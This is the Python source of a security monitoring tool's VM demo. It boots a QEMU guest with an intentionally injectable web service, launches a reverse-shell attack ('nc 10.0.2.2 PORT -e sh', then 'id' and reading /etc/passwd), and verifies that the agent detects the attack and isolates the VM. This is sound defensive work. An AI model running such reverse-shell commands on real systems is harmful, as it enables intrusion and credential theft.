"""``bam demo --vm``: the live demo with the flawed service inside a QEMU guest.

Same loop as :mod:`bam.demo.run`, with a virtual machine as the workload:

1. the embedded attestation server with the demo policy (``high`` → isolate);
2. a small guest boots under QEMU (KVM where usable, else TCG software emulation): the
   cached BAM image (Debian cloud kernel + busybox initramfs), whose ``/init`` streams the
   guest kernel's ``raw_syscalls`` over virtio-serial and runs ``notes``
   (:mod:`bam.demo.guest_service`: busybox ``httpd`` + CGI, with a command-injection flaw);
   QEMU's user network forwards a host loopback port to the guest's port 80;
3. the agent watches the VM **as a configured target** (``qmp = RUN/qmp.sock``): the guest's
   syscalls and the QEMU process's host-side resources, profiled under benign HTTP traffic
   from the host, then attested every second while the traffic goes on;
4. attack: the injection runs ``nc 10.0.2.2 PORT -e sh`` in the guest — a shell connected to
   a listener on the host — and the attacker runs ``id``, reads ``/etc/passwd`` and a note;
5. the agent reports at once, the server says isolate, the agent pauses the VM (QMP
   ``stop``) and takes its NIC's link down (``set_link``), and the demo *checks* it: QMP says
   paused, the NIC's link bit reads down, the vCPU thread uses no CPU, the forwarded service
   no longer answers, the attacker's shell no longer answers;
6. QEMU is ended (``quit``), the server stopped; timeline, JSON outcome and HTML report.
"""

from __future__ import annotations

import contextlib
import threading
import time
from pathlib import Path
from typing import Any

from bam.actions.vm import link_state
from bam.agent.config import AgentSettings, TargetSpec
from bam.agent.embedded import EmbeddedServer
from bam.agent.runner import Agent
from bam.demo.guest_service import guest_path, note_names, workload
from bam.demo.run import Demo, demo_policy
from bam.demo.traffic import Attack, BenignTraffic, get
from bam.errors import BamError
from bam.sensors.vm.image import build_image
from bam.sensors.vm.launch import Vm, VmSpec, launch
from bam.sensors.vm.qmp import Qmp
from bam.sensors.vm.resources import thread_cpu_s
from bam.server.pgtemp import free_port

FLUSH_S = 0.1
GUEST_HOST = "10.0.2.2"
"""The host's loopback as the guest sees it (QEMU user network)."""


def http_answers(url: str, timeout_s: float) -> bool:
    """Whether an HTTP request gets an answer. A TCP connect alone proves nothing here: QEMU's
    user network accepts on the forwarded port itself, even while the guest is paused."""
    try:
        get(url, timeout=timeout_s)
    except OSError:
        return False
    return True


class VmDemo(Demo):
    """One run of the VM demo (same events, timeline and report as the process demo)."""

    def __init__(self, **kw: Any) -> None:
        super().__init__(**kw)
        # the guest's normal paths come at TCG speed: profile a little longer than the host demo
        self.profile_s = 40.0 if self.quick else 60.0
        self.benign_s = 15.0 if self.quick else 40.0
        self.workload = "notes-vm"
        if kw.get("report") is None:
            self.report_path = Path.cwd() / "bam-demo-vm-report.html"

    def run(self) -> dict[str, Any]:
        t_start = time.monotonic()
        server = EmbeddedServer(self.root, policy_source=demo_policy(), in_process=False)
        self.say("starting the embedded attestation server (SQLite, loopback)…")
        server.start()
        agent: Agent | None = None
        traffic: BenignTraffic | None = None
        attack: Attack | None = None
        vm: Vm | None = None
        cleanup: dict[str, Any] = {}
        try:
            self.say(f"server {server.url}  policy {server.policy_id}")
            self.say(
                f"dashboard (while the demo runs): {server.url}/dashboard  "
                f"(log in with the operator token {server.admin_token})"
            )
            image = build_image()
            port = free_port()
            base = f"http://127.0.0.1:{port}"
            spec = VmSpec(
                name="notes-vm",
                workload=workload(),
                repeat=1,
                forwards=((port, 80),),
                disk_mb=0,
                # the guest ships its trace pages every 0.1 s (default 0.25): part of the
                # detection latency is how long the attack's calls wait in the guest
                extra_append=f"bam_flush={FLUSH_S:g}",
            )
            self.say(f"booting the guest ({image.kernel_package}, busybox) under QEMU…")
            vm = launch(spec, image=image, run_dir=self.root / "vm", ready_timeout=120)
            self.say(
                f"QEMU pid {vm.pid} ({vm.info.accel}), guest trace stream after "
                f"{vm.info.boot_s:.1f} s; guest :80 forwarded to 127.0.0.1:{port}"
            )
            self._mark("guest booted")
            deadline = time.monotonic() + 60
            while not http_answers(base + "/", 2.0):
                if time.monotonic() > deadline or not vm.alive():
                    raise BamError("the guest's notes service did not come up")
                time.sleep(0.3)
            settings = AgentSettings(
                server_url=server.url,
                enrol_token=server.enrol_token("bam demo --vm"),
                name="demo-host",
                data_dir=self.root / "agent",
                interval_s=1.0,
                tls_verify=False,
                targets=[TargetSpec(name=self.workload, qmp=vm.qmp_path, profile_s=self.profile_s)],
            )
            agent = Agent(settings, on_event=self._on_event)
            agent.enrol()
            self.phase = "profile"
            agent.start_targets()
            st = agent.targets[self.workload]
            traffic = BenignTraffic(base, note_names(), path_of=guest_path).start()
            self.say(
                f"profiling the VM (guest syscalls + QEMU host resources) under benign traffic "
                f"for {self.profile_s:.0f} s…"
            )
            cpu_frac, rss, benign_obs, benign_alerts = self.profile_then_benign(agent, st)
            benign_errors, benign_error_log = traffic.errors, list(traffic.error_log)
            self.phase = "attack"
            attack = Attack(base, connect_host=GUEST_HOST, endpoint="/cgi-bin/size", tool="nc")
            self.say(
                f"ATTACK: command injection in the guest → nc {GUEST_HOST}:{attack.port} -e sh "
                f"(reverse shell to the host)"
            )
            attack.launch()
            op = threading.Thread(target=attack.operate, kwargs={"timeout_s": 15}, daemon=True)
            op.start()
            isolated = self.wait_isolated(agent, 30.0)
            op.join(timeout=10)
            detect, result = self.detection(), self.contraindicated()
            checks = self.check_isolation(vm, base, attack)
            evidence_verified = self._verify_results(server) if result is not None else False
            self.say("isolation checks: " + ", ".join(f"{k}={v}" for k, v in checks.items()))
            sensor = st.monitor.sensor
            res = st.monitor.resources
            outcome: dict[str, Any] = {
                **self.detection_outcome(
                    benign_alerts, benign_obs, attack.sent_at, detect, result, isolated
                ),
                "evidence_verified": evidence_verified,
                "action_verified": bool(
                    isolated
                    and isolated.get("ok")
                    and checks["vm_paused"]
                    and checks["link_down"]
                    and checks["vcpu_halted"]
                    and checks["service_port_unreachable"]
                    and checks["attacker_shell_silenced"]
                ),
                "checks": checks,
                "agent_cpu_overhead": round(cpu_frac, 4),
                "agent_rss_mb": rss,
                "benign_requests": traffic.requests,
                "benign_request_errors": benign_errors,
                "benign_request_error_log": benign_error_log[:5],
                "dashboard": f"{server.url}/dashboard",
                "sensor": st.monitor.describe_sensor(),
                "vm": {
                    "accel": vm.info.accel,
                    "kernel_package": vm.info.kernel_package,
                    "boot_s": round(vm.info.boot_s or 0.0, 2),
                    "qemu_pid": vm.pid,
                    "guest_syscalls": getattr(sensor, "events", None),
                    "guest_drops": getattr(sensor, "drops", None),
                    "host_profile_max": res.profile if res is not None else None,
                },
            }
        finally:
            if traffic is not None:
                traffic.close()
            if attack is not None:
                attack.close()
            if agent is not None:
                agent.close()  # the VM stays as the agent left it (it does not own it) …
            if vm is not None:
                vm.cleanup()  # … and the demo ends it: QMP quit (then SIGTERM/SIGKILL)
                cleanup["qemu_exited"] = not vm.alive()
            server.stop()
        outcome["cleanup"] = cleanup
        outcome["duration_s"] = round(time.monotonic() - t_start, 1)
        outcome["report"] = str(self.report_path)
        self.write_report(outcome)
        outcome["timeline"] = self.timeline
        if self._tmp is not None:
            self._tmp.cleanup()
        return outcome

    def _mark(self, what: str) -> None:
        self.timeline.append(
            {"t": round(time.time() - self.t0, 2), "phase": self.phase, "what": what}
        )

    def check_isolation(self, vm: Vm, base: str, attack: Attack) -> dict[str, Any]:
        """Read the isolation back from QEMU, the guest's NIC and over the network."""
        checks: dict[str, Any] = {}
        # the agent holds qmp.sock (QEMU serves one client per monitor): read back through the
        # VM's second monitor, independently of the agent
        with Qmp(vm.info.qmp_ops or vm.qmp_path) as q:
            checks["vm_status"] = q.status()
            checks["vm_paused"] = checks["vm_status"] == "paused"
            links = link_state(q)
            checks["link_read_back"] = links
            checks["link_down"] = bool(links) and all(v is False for v in links.values())
            vcpus = q.vcpu_threads()
            cpu0 = sum(thread_cpu_s(vm.pid, t) for t in vcpus.values())
            t0 = time.monotonic()
            checks["service_port_unreachable"] = not http_answers(base + "/", 2.0)
            checks["attacker_shell_silenced"] = not attack.shell_responds(1.5)
            cpu1 = sum(thread_cpu_s(vm.pid, t) for t in vcpus.values())
            checks["vcpu_cpu_s_while_checking"] = round(cpu1 - cpu0, 3)
            checks["vcpu_halted"] = bool(vcpus) and cpu1 - cpu0 <= 0.02
            checks["checked_over_s"] = round(time.monotonic() - t0, 2)
        checks["attacker_had_shell"] = attack.connected_at is not None
        checks["attacker_read_passwd"] = b"root:" in attack.output
        with contextlib.suppress(OSError):
            checks["attacker_saw"] = attack.output.decode(errors="replace")[:200]
        return checks
